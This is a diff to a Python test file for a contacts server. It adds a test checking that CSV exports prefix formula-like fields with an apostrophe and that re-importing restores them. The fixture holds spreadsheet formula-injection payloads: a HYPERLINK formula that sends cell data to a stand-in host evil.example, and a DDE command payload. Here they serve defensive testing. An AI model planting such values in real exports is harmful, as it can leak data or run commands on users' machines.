@@ -14,11 +14,11 @@ import pytest
 import vobject
 from sqlalchemy import func, select
 
-from server import exporters
+from server import exporters, importers
 from server.demo import load_seed
 from server.models import Store
 from tests.conftest import make_account, unavailable
-from tests.synckit import Device
+from tests.synckit import Device, uid
 from tests.test_cli import run, run_json
 from tests.test_import import GOOGLE, LINKEDIN, SEEDS, VCARD, Imports
 
@@ -152,6 +152,29 @@ async def test_csv_tables_name_what_their_references_point_to(target):
     assert {r["name"] for r in orgs} == {o["fields"]["name"] for o in records["organization"]}
 
 
+async def test_a_csv_export_never_hands_a_spreadsheet_a_formula(target):
+    """A name or title that reads as a formula (imported from anyone's profile) gets a
+    leading apostrophe; importing the export takes it off; phone numbers stay as they are."""
+    hostile = {
+        "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "title": "@SUM(1+1)",
+        "department": "+cmd|' /C calc'!A0",
+        "phones": ["+1 555 0100 x23", "-5"],
+    }
+    phone = Device("c-phone")
+    await target.apply(phone, phone.set("person", uid(), 0, **hostile))
+    exported = (await _export(target, "csv", "people")).decode()
+    row = next(csv.DictReader(io.StringIO(exported)))
+    assert row["name"] == "'" + hostile["name"]
+    assert row["title"] == "'@SUM(1+1)" and row["department"] == "'+cmd|' /C calc'!A0"
+    assert row["phones"] == "+1 555 0100 x23; -5"
+    again = await make_account(target.engine)
+    await importers.import_file(target.engine, again.store_id, again.user_id, "csv", exported)
+    back = Imports(target.engine, again.store_id, again.device_id)
+    (person,) = (await back.live("person")).values()
+    assert {k: person[k] for k in hostile} == hostile
+
+
 @pytest.mark.parametrize(
     ("data", "message"),
     [
@@ -263,7 +286,9 @@ async def test_the_web_apps_offline_backup_is_byte_identical_to_the_servers(targ
         unavailable("node is not installed")
     await load_seed(target.engine, target.store_id, target.user_id)
     await target.run("vcard", VCARD)
-    await target.run("csv", "Name,Email,Organization\nDana Ortiz,dana.o@mail.example,Acme\n")
+    await target.run(
+        "csv", "Name,Email,Organization\nDana Ortiz,dana.o@mail.example,Acme Robotics\n"
+    )
     ids = [rid for rid, p in (await target.live("person")).items() if p["name"] == "Dana Ortiz"]
     phone = Device("c-phone")
     await target.apply(phone, phone.merge("person", ids[1], ids[0]))  # leaves a tombstone
